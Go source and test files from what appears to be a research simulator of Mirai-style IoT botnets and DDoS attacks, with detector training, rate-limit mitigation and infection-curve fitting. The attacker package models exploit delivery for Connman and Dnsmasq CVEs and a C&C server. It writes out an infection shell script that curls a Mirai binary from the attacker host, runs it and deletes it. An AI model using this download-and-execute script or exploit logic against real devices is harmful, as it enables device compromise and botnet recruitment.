// ParseQueueKind converts a CLI string (heap|calendar; empty means
// heap) into a QueueKind.
func ParseQueueKind(s string) (QueueKind, error) { return sim.ParseQueueKind(s) }

// ParseFaultSpec converts a CLI fault specification — semicolon-
// separated clauses like "flap:period=60s,down=5s;loss:rate=0.9" or
// the shorthand "intensity=0.5" — into a FaultsConfig.
func ParseFaultSpec(s string) (FaultsConfig, error) { return faults.ParseSpec(s) }

// FaultsAtIntensity returns the canonical fault scenario scaled to
// x ∈ [0, 1]; 0 disables injection.
func FaultsAtIntensity(x float64) FaultsConfig { return faults.AtIntensity(x) }
