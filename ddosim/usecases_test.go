package ddosim_test

import (
	"net/netip"
	"testing"

	"ddosim/ddosim"
)

// TestUseCaseToolkitEndToEnd drives every §V helper through the
// public facade on one instrumented run: traffic capture, flow
// monitoring, feature extraction, detector training, mitigation, and
// epidemic fitting.
func TestUseCaseToolkitEndToEnd(t *testing.T) {
	cfg := smallConfig(15)
	cfg.AttackDuration = 40
	sim, err := ddosim.New(cfg)
	if err != nil {
		t.Fatal(err)
	}

	capture := ddosim.StartCapture(sim.TServer(), 1000)
	flows := ddosim.InstallFlowMonitor(sim.TServer())
	extractor := ddosim.NewTrafficExtractor(sim.TServer())
	dst := netip.AddrPortFrom(sim.TServer().Addr4(), 80)
	if err := ddosim.InstallBenignClients(sim.Star(), dst, 4, "benign"); err != nil {
		t.Fatal(err)
	}

	r, err := sim.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.Infected != 15 {
		t.Fatalf("infected = %d", r.Infected)
	}

	// Capture and flows observed the attack.
	if capture.Total() == 0 {
		t.Fatal("capture saw nothing")
	}
	if flows.FlowCount() < 15 {
		t.Fatalf("flows = %d", flows.FlowCount())
	}
	top := flows.TopTalkers(3)
	if len(top) != 3 || top[0].Stats.Bytes == 0 {
		t.Fatalf("top talkers = %+v", top)
	}

	// Train and evaluate a detector on extracted windows.
	attackFrom := int64(r.AttackIssuedAt / ddosim.Second)
	attackTo := attackFrom + int64(cfg.AttackDuration)
	var samples []ddosim.DetectorSample
	for sec := int64(2); sec < attackTo+20; sec++ {
		samples = append(samples, ddosim.DetectorSample{
			X:      extractor.Window(sec).Slice(),
			Attack: sec >= attackFrom && sec < attackTo,
		})
	}
	det := ddosim.TrainDetector(samples, 150, 0.1, 1)
	conf := ddosim.EvaluateDetector(det, samples)
	if conf.Accuracy() < 0.9 {
		t.Fatalf("detector accuracy = %.2f (confusion %+v)", conf.Accuracy(), conf)
	}

	// Fit the infection curve.
	curve := ddosim.InfectionCurveFromTimeline(r.Timeline)
	if len(curve.Times) != 15 {
		t.Fatalf("infection curve has %d points", len(curve.Times))
	}
	lambda, rmse := ddosim.FitInfectionLambda(curve, 15, curve.Times[len(curve.Times)-1]+5)
	if lambda <= 0 || rmse < 0 {
		t.Fatalf("fit: lambda=%v rmse=%v", lambda, rmse)
	}
	beta, _ := ddosim.FitInfectionBeta(curve, 15, curve.Times[len(curve.Times)-1]+5)
	if beta <= 0 {
		t.Fatalf("beta = %v", beta)
	}
	times, infected := ddosim.SimulateExternalInfection(lambda, 15, 0.05, 30)
	if len(times) == 0 || len(infected) != len(times) {
		t.Fatal("model simulation empty")
	}
}

func TestMitigationViaFacade(t *testing.T) {
	// Same attack with and without a deployed rate limiter.
	base := smallConfig(12)
	r1, err := ddosim.Run(base)
	if err != nil {
		t.Fatal(err)
	}
	sim2, err := ddosim.New(base)
	if err != nil {
		t.Fatal(err)
	}
	rl := ddosim.InstallRateLimiter(sim2.TServer(), 2500, 8192, 200)
	r2, err := sim2.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r2.DReceivedKbps*5 > r1.DReceivedKbps {
		t.Fatalf("mitigation ineffective: %.1f vs %.1f kbps", r2.DReceivedKbps, r1.DReceivedKbps)
	}
	if rl.Blacklisted() == 0 {
		t.Fatal("no bots blacklisted")
	}
	rl.Uninstall()
}

func TestAttackMethodsViaFacade(t *testing.T) {
	for _, method := range []string{ddosim.MethodUDPPlain, ddosim.MethodSYN, ddosim.MethodACK} {
		cfg := smallConfig(5)
		cfg.AttackMethod = method
		r, err := ddosim.Run(cfg)
		if err != nil {
			t.Fatalf("%s: %v", method, err)
		}
		if r.DReceivedKbps <= 0 {
			t.Fatalf("%s: no traffic", method)
		}
	}
}
