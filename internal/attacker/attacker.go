// Package attacker assembles the Attacker component of §II-A/§III-A:
// one Docker-style container hosting the Exploit & Infection Scripts
// (a malicious DNS server for Connman's CVE-2017-12865 and a periodic
// DHCPv6 RELAY-FORW sender for Dnsmasq's CVE-2017-14493), the Mirai
// C&C server, and the Apache-style file server that hands out the
// infection shell script and the arch-specific bot binaries.
package attacker

import (
	"fmt"
	"net/netip"
	"strings"

	"ddosim/internal/binaries/image"
	"ddosim/internal/container"
	"ddosim/internal/dhcpv6"
	"ddosim/internal/dht"
	"ddosim/internal/dnsmsg"
	"ddosim/internal/exploit"
	"ddosim/internal/mirai"
	"ddosim/internal/netsim"
	"ddosim/internal/obs"
	"ddosim/internal/p2pbot"
	"ddosim/internal/shttp"
	"ddosim/internal/sim"
)

// Config parameterizes the attacker deployment.
type Config struct {
	// LinkRate/LinkDelay attach the attacker to the simulated
	// network. Defaults: 100 Mbps, 1 ms (the attacker is not the
	// bottleneck in any experiment).
	LinkRate  netsim.DataRate
	LinkDelay sim.Time
	// DHCPv6Period is how often the exploit script multicasts its
	// RELAY-FORW. Default 5 s.
	DHCPv6Period sim.Time
	// ShellScriptPath is the file-server path of the infection
	// script. Default "/i.sh".
	ShellScriptPath string
	// DisableExploitScripts skips starting the malicious DNS server
	// and the DHCPv6 script — used when recruitment goes through the
	// credential vector instead of memory errors.
	DisableExploitScripts bool
	// Bot is the configuration baked into the distributed Mirai
	// binaries; CNC is filled in by Deploy.
	Bot mirai.BotConfig
	// CNC configures the command-and-control server.
	CNC mirai.CNCConfig
	// P2P switches the distributed binaries to the decentralized
	// family: the image ships a seeder daemon instead of the C&C, and
	// exploited Devs exec a Kademlia bot. Bot/CNC above are ignored.
	P2P bool
	// P2PBot is the configuration baked into the distributed P2P bot
	// binaries (Bootstrap is filled in by Deploy).
	P2PBot p2pbot.BotConfig
	// Seeder configures the botmaster's overlay seed process.
	Seeder p2pbot.SeederConfig
	// Obs, when set, records exploit deliveries (DNS responses,
	// DHCPv6 multicasts) as trace events and metrics, and is passed
	// through to the C&C.
	Obs *obs.Obs
}

// Attacker is the deployed component with handles to its
// sub-components.
type Attacker struct {
	Container  *container.Container
	CNC        *mirai.CNC
	FileServer *shttp.Server
	DNS        *MaliciousDNS
	DHCP       *DHCPv6Exploit
	// Seeder is the overlay seed process (P2P family only, nil
	// otherwise; rebound when fault injection re-execs the daemon).
	Seeder *p2pbot.Seeder
	// BotTemplate is the final bot configuration baked into the
	// distributed binaries (CNC and scanner endpoints filled in).
	BotTemplate mirai.BotConfig
	// P2PBotTemplate is its P2P-family counterpart (bootstrap endpoint
	// filled in).
	P2PBotTemplate p2pbot.BotConfig

	scriptURL string
}

// ScriptURL reports the ShellScript_URL the ROP payloads reference.
func (a *Attacker) ScriptURL() string { return a.scriptURL }

// CNCAddr reports the C&C endpoint bots connect to.
func (a *Attacker) CNCAddr() netip.AddrPort {
	return netip.AddrPortFrom(a.Container.Node().Addr4(), mirai.CNCPort)
}

// SeedAddr reports the overlay bootstrap endpoint (P2P family).
func (a *Attacker) SeedAddr() netip.AddrPort {
	port := a.P2PBotTemplate.DHT.Port
	if port == 0 {
		port = dht.DefaultPort
	}
	return netip.AddrPortFrom(a.Container.Node().Addr4(), port)
}

// Deploy builds the attacker image, creates and starts its container,
// and launches all four sub-components. It also registers the "mirai"
// binary behaviour (with the C&C address baked in) so that Devs can
// execute the downloaded bot.
func Deploy(engine *container.Engine, cfg Config) (*Attacker, error) {
	if cfg.LinkRate <= 0 {
		cfg.LinkRate = 100 * netsim.Mbps
	}
	if cfg.LinkDelay <= 0 {
		cfg.LinkDelay = sim.Millisecond
	}
	if cfg.DHCPv6Period <= 0 {
		cfg.DHCPv6Period = 5 * sim.Second
	}
	if cfg.ShellScriptPath == "" {
		cfg.ShellScriptPath = "/i.sh"
	}
	if cfg.CNC.Obs == nil {
		cfg.CNC.Obs = cfg.Obs
	}

	img := &container.Image{
		Name: "ddosim/attacker",
		Tag:  "latest",
		Arch: "x86_64",
		Files: map[string][]byte{
			"/usr/bin/cnc":       container.BinaryContent("cnc", "x86_64"),
			"/usr/sbin/apache2":  container.BinaryContent("apache2", "x86_64"),
			"/opt/evil-dns":      container.BinaryContent("evil-dns", "x86_64"),
			"/opt/dhcp6-exploit": container.BinaryContent("dhcp6-exploit", "x86_64"),
		},
		ExecPaths: map[string]bool{
			"/usr/bin/cnc": true, "/usr/sbin/apache2": true,
			"/opt/evil-dns": true, "/opt/dhcp6-exploit": true,
		},
		ExtraBytes: 64 << 20, // Mirai toolchain, Apache, python scripts
	}
	if cfg.P2P {
		// The P2P botmaster ships a seeder instead of a C&C. Classic
		// images are untouched so their ContainerBytes (Table I input)
		// stay byte-identical.
		delete(img.Files, "/usr/bin/cnc")
		delete(img.ExecPaths, "/usr/bin/cnc")
		img.Files["/usr/bin/p2p-seed"] = container.BinaryContent("p2p-seed", "x86_64")
		img.ExecPaths["/usr/bin/p2p-seed"] = true
	}
	engine.RegisterImage(img)

	a := &Attacker{}

	engine.RegisterBinary("cnc", func(args []string) container.Behavior {
		a.CNC = mirai.NewCNC(cfg.CNC)
		return a.CNC
	})
	if cfg.P2P {
		// Like the C&C factory above, a fault-injection re-exec rebinds
		// a.Seeder to the fresh instance.
		engine.RegisterBinary("p2p-seed", func(args []string) container.Behavior {
			a.Seeder = p2pbot.NewSeeder(cfg.Seeder)
			return a.Seeder
		})
	}
	engine.RegisterBinary("apache2", func(args []string) container.Behavior {
		return &fileServerBehavior{attacker: a, path: cfg.ShellScriptPath}
	})
	engine.RegisterBinary("evil-dns", func(args []string) container.Behavior {
		a.DNS = NewMaliciousDNS(func() string { return a.scriptURL })
		a.DNS.Observe(cfg.Obs)
		return a.DNS
	})
	engine.RegisterBinary("dhcp6-exploit", func(args []string) container.Behavior {
		a.DHCP = NewDHCPv6Exploit(cfg.DHCPv6Period, func() string { return a.scriptURL })
		a.DHCP.Observe(cfg.Obs)
		return a.DHCP
	})

	c, err := engine.Create(img.Ref(), "attacker", container.LinkConfig{
		Rate: cfg.LinkRate, Delay: cfg.LinkDelay,
	})
	if err != nil {
		return nil, fmt.Errorf("attacker: %w", err)
	}
	a.Container = c
	if err := c.Start(); err != nil {
		return nil, fmt.Errorf("attacker: %w", err)
	}
	a.scriptURL = "http://" + c.Node().Addr4().String() + cfg.ShellScriptPath

	if cfg.P2P {
		// Bake the overlay entry point into the distributed P2P bot
		// binaries; the same downloaded-binary path delivers them.
		p2pCfg := cfg.P2PBot
		a.P2PBotTemplate = p2pCfg
		p2pCfg.Bootstrap = append(p2pCfg.Bootstrap, a.SeedAddr())
		a.P2PBotTemplate = p2pCfg
		engine.RegisterBinary(image.BinMirai, p2pbot.BotFactory(p2pCfg))
	} else {
		// Bake the C&C endpoint into the distributed bot binaries; when
		// the scanner module is on, point it at our loader and keep it
		// away from our own infrastructure.
		botCfg := cfg.Bot
		botCfg.CNC = a.CNCAddr()
		if botCfg.Scan.Enabled {
			botCfg.Scan.ReportTo = netip.AddrPortFrom(c.Node().Addr4(), mirai.ScanListenPort)
			botCfg.Scan.Skip = append(botCfg.Scan.Skip, c.Node().Addr4())
		}
		a.BotTemplate = botCfg
		engine.RegisterBinary(image.BinMirai, mirai.BotFactory(botCfg))
	}

	// Launch sub-components.
	bins := []string{"/usr/bin/cnc", "/usr/sbin/apache2"}
	if cfg.P2P {
		bins[0] = "/usr/bin/p2p-seed"
	}
	if !cfg.DisableExploitScripts {
		bins = append(bins, "/opt/evil-dns", "/opt/dhcp6-exploit")
	}
	for _, bin := range bins {
		if _, err := c.ExecFile(bin, nil); err != nil {
			return nil, fmt.Errorf("attacker: start %s: %w", bin, err)
		}
	}
	return a, nil
}

// InfectionScript renders the shell script served at ShellScript_URL:
// fetch the arch-matching Mirai build, run it, remove the file.
func InfectionScript(fileServerAddr string) string {
	return strings.Join([]string{
		"#!/bin/sh",
		"curl -s http://" + fileServerAddr + "/bins/mirai.$(uname -m) -o /tmp/.mirai",
		"chmod +x /tmp/.mirai",
		"/tmp/.mirai &",
		"rm -f /tmp/.mirai",
	}, "\n")
}

// fileServerBehavior runs the Apache-style file server inside the
// attacker container.
type fileServerBehavior struct {
	attacker *Attacker
	path     string
}

func (f *fileServerBehavior) Name() string { return "apache2" }

func (f *fileServerBehavior) Start(p *container.Process) {
	srv, err := shttp.NewServer(p.Node(), shttp.DefaultPort)
	if err != nil {
		p.Logf("apache2: %v", err)
		return
	}
	addr := p.Node().Addr4().String()
	srv.Handle(f.path, []byte(InfectionScript(addr)))
	for _, arch := range image.Architectures {
		srv.Handle("/bins/mirai."+arch, container.BinaryContent(image.BinMirai, arch))
	}
	f.attacker.FileServer = srv
}

func (f *fileServerBehavior) Stop(*container.Process) {}

// MaliciousDNS is the Connman exploit delivery server: it answers any
// DNS query with a response whose RDATA is the ROP payload.
type MaliciousDNS struct {
	scriptURL func() string
	sock      *netsim.UDPSocket
	p         *container.Process

	// QueriesServed counts exploit responses sent.
	QueriesServed uint64

	trace     *obs.Tracer
	ctrServed *obs.Counter
}

var _ container.Behavior = (*MaliciousDNS)(nil)

// NewMaliciousDNS creates the behaviour; scriptURL is deferred because
// the attacker's address is only known after container creation.
func NewMaliciousDNS(scriptURL func() string) *MaliciousDNS {
	return &MaliciousDNS{scriptURL: scriptURL}
}

// Observe attaches the observability bundle.
func (m *MaliciousDNS) Observe(o *obs.Obs) {
	m.trace = o.Tracer()
	m.ctrServed = o.Registry().Counter("exploit_dns_responses_total",
		"ROP-carrying DNS responses served (Connman channel)")
}

// Name implements container.Behavior.
func (m *MaliciousDNS) Name() string { return "evil-dns" }

// Start implements container.Behavior.
func (m *MaliciousDNS) Start(p *container.Process) {
	m.p = p
	sock, err := p.BindUDP(53, m.onQuery)
	if err != nil {
		p.Logf("evil-dns: %v", err)
		return
	}
	m.sock = sock
}

// Stop implements container.Behavior.
func (m *MaliciousDNS) Stop(*container.Process) {}

func (m *MaliciousDNS) onQuery(src netip.AddrPort, payload []byte, _ int) {
	q, err := dnsmsg.Decode(payload)
	if err != nil || q.IsResponse() {
		return
	}
	chain, err := exploit.ForBinary(image.BinConnman, m.scriptURL())
	if err != nil {
		m.p.Logf("evil-dns: build chain: %v", err)
		return
	}
	resp := dnsmsg.NewResponse(q, dnsmsg.TypeA, 30, chain)
	m.sock.SendTo(src, resp.Encode())
	m.QueriesServed++
	m.ctrServed.Inc()
	m.trace.Event(m.p.Sched().Now(), obs.CatExploit, "exploit-attempt",
		obs.KV{K: "channel", V: "dns"}, obs.KV{K: "victim", V: src.Addr().String()})
}

// DHCPv6Exploit periodically multicasts the crafted RELAY-FORW that
// exploits Dnsmasq, mirroring the paper's Python script.
type DHCPv6Exploit struct {
	period    sim.Time
	scriptURL func() string
	sock      *netsim.UDPSocket
	p         *container.Process

	// MessagesSent counts multicast exploit datagrams.
	MessagesSent uint64

	trace   *obs.Tracer
	ctrSent *obs.Counter
}

// Observe attaches the observability bundle.
func (d *DHCPv6Exploit) Observe(o *obs.Obs) {
	d.trace = o.Tracer()
	d.ctrSent = o.Registry().Counter("exploit_dhcpv6_messages_total",
		"crafted RELAY-FORW multicasts sent (Dnsmasq channel)")
}

var _ container.Behavior = (*DHCPv6Exploit)(nil)

// NewDHCPv6Exploit creates the behaviour.
func NewDHCPv6Exploit(period sim.Time, scriptURL func() string) *DHCPv6Exploit {
	return &DHCPv6Exploit{period: period, scriptURL: scriptURL}
}

// Name implements container.Behavior.
func (d *DHCPv6Exploit) Name() string { return "dhcp6-exploit" }

// Start implements container.Behavior.
func (d *DHCPv6Exploit) Start(p *container.Process) {
	d.p = p
	sock, err := p.BindUDP(0, nil)
	if err != nil {
		p.Logf("dhcp6-exploit: %v", err)
		return
	}
	d.sock = sock
	t := p.NewTicker(d.period, d.send)
	t.StartImmediate()
}

// Stop implements container.Behavior.
func (d *DHCPv6Exploit) Stop(*container.Process) {}

func (d *DHCPv6Exploit) send() {
	chain, err := exploit.ForBinary(image.BinDnsmasq, d.scriptURL())
	if err != nil {
		d.p.Logf("dhcp6-exploit: build chain: %v", err)
		return
	}
	msg := dhcpv6.NewRelayForw(d.p.Node().Addr6(), netip.IPv6LinkLocalAllNodes(), chain)
	dst := netip.AddrPortFrom(dhcpv6.AllRelayAgentsAndServers, dhcpv6.ServerPort)
	d.sock.SendTo(dst, msg.Encode())
	d.MessagesSent++
	d.ctrSent.Inc()
	d.trace.Event(d.p.Sched().Now(), obs.CatExploit, "exploit-attempt",
		obs.KV{K: "channel", V: "dhcpv6"})
}
