package attacker

import (
	"strings"
	"testing"

	"ddosim/internal/binaries/connman"
	"ddosim/internal/binaries/dnsmasq"
	imagecat "ddosim/internal/binaries/image"
	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/procvm"
	"ddosim/internal/sim"
)

type rig struct {
	sched  *sim.Scheduler
	star   *netsim.Star
	engine *container.Engine
}

func newRig(t testing.TB) *rig {
	t.Helper()
	sched := sim.NewScheduler(17)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	return &rig{sched: sched, star: star, engine: container.NewEngine(sched, star)}
}

func devContainer(t *testing.T, r *rig, name, bin string) *container.Container {
	t.Helper()
	ref := "ddosim/devtest-" + name + ":t"
	img := &container.Image{
		Name: "ddosim/devtest-" + name, Tag: "t", Arch: "x86_64",
		Files:     map[string][]byte{"/usr/sbin/" + bin: container.BinaryContent(bin, "x86_64")},
		ExecPaths: map[string]bool{"/usr/sbin/" + bin: true},
	}
	r.engine.RegisterImage(img)
	c, err := r.engine.Create(ref, name, container.LinkConfig{
		Rate: 300 * netsim.Kbps, Delay: 2 * sim.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	return c
}

func TestDeploySubcomponents(t *testing.T) {
	r := newRig(t)
	a, err := Deploy(r.engine, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if a.CNC == nil || a.FileServer == nil || a.DNS == nil || a.DHCP == nil {
		t.Fatalf("missing subcomponents: %+v", a)
	}
	if !strings.HasPrefix(a.ScriptURL(), "http://") || !strings.HasSuffix(a.ScriptURL(), "/i.sh") {
		t.Fatalf("script URL = %q", a.ScriptURL())
	}
	if a.CNCAddr().Port() != 23 {
		t.Fatalf("CNC addr = %v", a.CNCAddr())
	}
	// Four processes run in the attacker container.
	if got := len(a.Container.Procs()); got != 4 {
		t.Fatalf("attacker processes = %d", got)
	}
}

func TestConnmanEndToEndInfection(t *testing.T) {
	// The complete Connman channel: daemon resolves against the
	// malicious DNS server, gets the ROP payload, curls the script,
	// runs the bot, and registers with the C&C.
	r := newRig(t)
	a, err := Deploy(r.engine, Config{})
	if err != nil {
		t.Fatal(err)
	}
	c := devContainer(t, r, "dev-c", imagecat.BinConnman)
	c.FS().Write("/etc/resolv.conf",
		[]byte("nameserver "+a.Container.Node().Addr4().String()+"\n"))
	var outcome procvm.HijackOutcome
	c.Spawn(connman.New(connman.Config{
		Protections: procvm.Protections{WX: true, ASLR: true},
		QueryPeriod: 3 * sim.Second,
		OnOutcome:   func(o procvm.HijackOutcome) { outcome = o },
	}))

	if err := r.sched.Run(2 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if a.DNS.QueriesServed == 0 {
		t.Fatal("malicious DNS served nothing")
	}
	if !outcome.Hijacked || outcome.ExecutedShell == "" {
		t.Fatalf("outcome = %+v", outcome)
	}
	if !strings.Contains(outcome.ExecutedShell, "curl -s "+a.ScriptURL()) {
		t.Fatalf("executed %q", outcome.ExecutedShell)
	}
	if a.CNC.BotCount() != 1 {
		t.Fatalf("bot count = %d\nlogs: %v", a.CNC.BotCount(), c.Logs())
	}
	if a.FileServer.Requests < 2 { // script + binary
		t.Fatalf("file server requests = %d", a.FileServer.Requests)
	}
	// Mirai removed its binary and obfuscated its name.
	if c.FS().Exists("/tmp/.mirai") {
		t.Fatal("bot binary still on disk")
	}
}

func TestDnsmasqEndToEndInfection(t *testing.T) {
	r := newRig(t)
	a, err := Deploy(r.engine, Config{DHCPv6Period: 2 * sim.Second})
	if err != nil {
		t.Fatal(err)
	}
	c := devContainer(t, r, "dev-d", imagecat.BinDnsmasq)
	var outcome procvm.HijackOutcome
	c.Spawn(dnsmasq.New(dnsmasq.Config{
		Protections: procvm.Protections{WX: true},
		OnOutcome:   func(o procvm.HijackOutcome) { outcome = o },
	}))
	if err := r.sched.Run(2 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if a.DHCP.MessagesSent == 0 {
		t.Fatal("DHCPv6 exploit sent nothing")
	}
	if outcome.ExecutedShell == "" {
		t.Fatalf("dnsmasq not exploited: %+v\nlogs: %v", outcome, c.Logs())
	}
	if a.CNC.BotCount() != 1 {
		t.Fatalf("bot count = %d", a.CNC.BotCount())
	}
}

func TestInfectionScriptShape(t *testing.T) {
	script := InfectionScript("10.1.0.2")
	if !strings.Contains(script, "curl -s http://10.1.0.2/bins/mirai.$(uname -m)") {
		t.Fatalf("script = %q", script)
	}
	if !strings.Contains(script, "chmod +x") || !strings.Contains(script, "rm -f") {
		t.Fatal("script missing chmod/rm steps")
	}
}

func TestHardenedDevResistsBothChannels(t *testing.T) {
	r := newRig(t)
	a, err := Deploy(r.engine, Config{DHCPv6Period: 2 * sim.Second})
	if err != nil {
		t.Fatal(err)
	}
	cd := devContainer(t, r, "dev-hd", imagecat.BinDnsmasq)
	var out procvm.HijackOutcome
	cd.Spawn(dnsmasq.New(dnsmasq.Config{
		Protections: procvm.Protections{WX: true, ASLR: true},
		Program:     imagecat.HardenedDnsmasq(),
		OnOutcome:   func(o procvm.HijackOutcome) { out = o },
	}))
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if out.ExecutedShell != "" {
		t.Fatal("hardened dnsmasq exploited")
	}
	if !out.Crashed() {
		t.Fatal("hardened dnsmasq did not crash on exploit attempt")
	}
	if a.CNC.BotCount() != 0 {
		t.Fatal("hardened dev registered as bot")
	}
}
