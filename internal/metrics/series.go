// Package metrics implements DDoSim's measurement layer: per-second
// received-traffic buckets at TServer, the paper's average received
// data rate D_received (Eq. 2), and infection/attack timelines used by
// the experiment harness and the §V use cases.
package metrics

import (
	"fmt"
	"math"
	"sort"
	"strings"

	"ddosim/internal/sim"
)

// Series buckets a byte count per simulated second, the structure
// TServer logs in the paper ("the received data rate at TServer during
// one second").
type Series struct {
	buckets map[int64]uint64
	first   int64
	last    int64
	total   uint64
	any     bool
}

// NewSeries returns an empty per-second series.
func NewSeries() *Series {
	return &Series{buckets: make(map[int64]uint64)}
}

// Add records n bytes received at time at.
func (s *Series) Add(at sim.Time, n int) {
	if n < 0 {
		panic("metrics: negative byte count")
	}
	sec := int64(at / sim.Second)
	s.buckets[sec] += uint64(n)
	s.total += uint64(n)
	if !s.any || sec < s.first {
		s.first = sec
	}
	if !s.any || sec > s.last {
		s.last = sec
	}
	s.any = true
}

// TotalBytes reports the sum over all buckets.
func (s *Series) TotalBytes() uint64 { return s.total }

// Empty reports whether nothing was recorded.
func (s *Series) Empty() bool { return !s.any }

// Bounds reports the first and last second with any traffic. Invalid
// when the series is empty.
func (s *Series) Bounds() (first, last int64) { return s.first, s.last }

// BytesAt reports the bytes recorded for one second.
func (s *Series) BytesAt(sec int64) uint64 { return s.buckets[sec] }

// BytesIn sums the bytes recorded in seconds [from, to).
func (s *Series) BytesIn(from, to int64) uint64 {
	var sum uint64
	for sec := from; sec < to; sec++ {
		sum += s.buckets[sec]
	}
	return sum
}

// KbpsSeries renders the per-second received data rate in kilobits per
// second over [from, to), with zeros for quiet seconds.
func (s *Series) KbpsSeries(from, to int64) []float64 {
	out := make([]float64, 0, to-from)
	for sec := from; sec < to; sec++ {
		out = append(out, float64(s.buckets[sec])*8/1000)
	}
	return out
}

// AvgReceivedKbps computes the paper's D_received (Eq. 2) over the
// window [from, to): total kilobits received divided by the window
// length in seconds.
func (s *Series) AvgReceivedKbps(from, to int64) float64 {
	n := to - from
	if n <= 0 {
		return 0
	}
	return float64(s.BytesIn(from, to)) * 8 / 1000 / float64(n)
}

// Sparkline renders a coarse text plot of the rate series, used by the
// CLI for quick inspection.
func (s *Series) Sparkline(from, to int64) string {
	levels := []rune("▁▂▃▄▅▆▇█")
	vals := s.KbpsSeries(from, to)
	maxV := 0.0
	for _, v := range vals {
		maxV = math.Max(maxV, v)
	}
	if maxV == 0 {
		return strings.Repeat("▁", len(vals))
	}
	var b strings.Builder
	for _, v := range vals {
		idx := int(v / maxV * float64(len(levels)-1))
		b.WriteRune(levels[idx])
	}
	return b.String()
}

// Timeline records timestamped labeled events (infections, C&C joins,
// attack start/stop). The epidemic use case reads infection timelines
// from here.
type Timeline struct {
	events []TimelineEvent
}

// TimelineEvent is one entry in a Timeline.
type TimelineEvent struct {
	At    sim.Time
	Kind  string
	Actor string
}

// NewTimeline returns an empty timeline.
func NewTimeline() *Timeline { return &Timeline{} }

// Record appends an event. Events arrive in simulation order because
// the kernel is single-threaded.
func (t *Timeline) Record(at sim.Time, kind, actor string) {
	t.events = append(t.events, TimelineEvent{At: at, Kind: kind, Actor: actor})
}

// Events returns a copy of all events.
func (t *Timeline) Events() []TimelineEvent {
	out := make([]TimelineEvent, len(t.events))
	copy(out, t.events)
	return out
}

// Count reports how many events of the given kind were recorded.
func (t *Timeline) Count(kind string) int {
	n := 0
	for _, e := range t.events {
		if e.Kind == kind {
			n++
		}
	}
	return n
}

// FirstOf reports the earliest event of the given kind.
func (t *Timeline) FirstOf(kind string) (TimelineEvent, bool) {
	for _, e := range t.events {
		if e.Kind == kind {
			return e, true
		}
	}
	return TimelineEvent{}, false
}

// LastOf reports the latest event of the given kind.
func (t *Timeline) LastOf(kind string) (TimelineEvent, bool) {
	for i := len(t.events) - 1; i >= 0; i-- {
		if t.events[i].Kind == kind {
			return t.events[i], true
		}
	}
	return TimelineEvent{}, false
}

// CumulativeCurve returns, for each event of kind, the pair (seconds
// since start, cumulative count). This is the infected-device curve the
// §V-B use case fits an SIR model against.
func (t *Timeline) CumulativeCurve(kind string) (times []float64, counts []int) {
	for _, e := range t.events {
		if e.Kind == kind {
			times = append(times, e.At.Seconds())
			counts = append(counts, len(counts)+1)
		}
	}
	return times, counts
}

// ActorsOf lists the distinct actors of events of the given kind, in
// sorted order.
func (t *Timeline) ActorsOf(kind string) []string {
	set := make(map[string]bool)
	for _, e := range t.events {
		if e.Kind == kind {
			set[e.Actor] = true
		}
	}
	out := make([]string, 0, len(set))
	for a := range set {
		out = append(out, a)
	}
	sort.Strings(out)
	return out
}

// String renders the timeline compactly for debugging.
func (t *Timeline) String() string {
	var b strings.Builder
	for _, e := range t.events {
		fmt.Fprintf(&b, "%s %s %s\n", e.At, e.Kind, e.Actor)
	}
	return b.String()
}
