package metrics

import (
	"testing"
	"testing/quick"

	"ddosim/internal/sim"
)

func TestSeriesBuckets(t *testing.T) {
	s := NewSeries()
	s.Add(500*sim.Millisecond, 100)
	s.Add(900*sim.Millisecond, 50)
	s.Add(2*sim.Second, 25)
	if got := s.BytesAt(0); got != 150 {
		t.Fatalf("second 0 = %d", got)
	}
	if got := s.BytesAt(1); got != 0 {
		t.Fatalf("second 1 = %d", got)
	}
	if got := s.BytesAt(2); got != 25 {
		t.Fatalf("second 2 = %d", got)
	}
	if s.TotalBytes() != 175 {
		t.Fatalf("total = %d", s.TotalBytes())
	}
	first, last := s.Bounds()
	if first != 0 || last != 2 {
		t.Fatalf("bounds = %d,%d", first, last)
	}
}

func TestSeriesEmpty(t *testing.T) {
	s := NewSeries()
	if !s.Empty() {
		t.Fatal("new series not empty")
	}
	if got := s.AvgReceivedKbps(0, 10); got != 0 {
		t.Fatalf("avg on empty = %v", got)
	}
	s.Add(0, 1)
	if s.Empty() {
		t.Fatal("series empty after Add")
	}
}

func TestAvgReceivedKbpsEq2(t *testing.T) {
	// Eq. 2: sum of kilobits over the window divided by window seconds.
	s := NewSeries()
	for sec := int64(0); sec < 10; sec++ {
		s.Add(sim.Time(sec)*sim.Second, 1250) // 10 kbit per second
	}
	if got := s.AvgReceivedKbps(0, 10); got != 10 {
		t.Fatalf("D_received = %v, want 10", got)
	}
	// Quiet seconds pull the average down, as in the paper's definition.
	if got := s.AvgReceivedKbps(0, 20); got != 5 {
		t.Fatalf("D_received over 20s = %v, want 5", got)
	}
	if got := s.AvgReceivedKbps(5, 5); got != 0 {
		t.Fatalf("zero-length window = %v", got)
	}
}

func TestBytesIn(t *testing.T) {
	s := NewSeries()
	s.Add(1*sim.Second, 10)
	s.Add(2*sim.Second, 20)
	s.Add(3*sim.Second, 30)
	if got := s.BytesIn(1, 3); got != 30 {
		t.Fatalf("BytesIn(1,3) = %d, want 30 (half-open)", got)
	}
}

func TestKbpsSeries(t *testing.T) {
	s := NewSeries()
	s.Add(0, 125) // 1 kbit
	got := s.KbpsSeries(0, 3)
	if len(got) != 3 || got[0] != 1 || got[1] != 0 || got[2] != 0 {
		t.Fatalf("KbpsSeries = %v", got)
	}
}

func TestSparkline(t *testing.T) {
	s := NewSeries()
	if got := s.Sparkline(0, 3); len([]rune(got)) != 3 {
		t.Fatalf("empty sparkline = %q", got)
	}
	s.Add(0, 1000)
	s.Add(1*sim.Second, 500)
	line := []rune(s.Sparkline(0, 2))
	if len(line) != 2 || line[0] == line[1] {
		t.Fatalf("sparkline does not distinguish levels: %q", string(line))
	}
}

func TestSeriesNegativePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
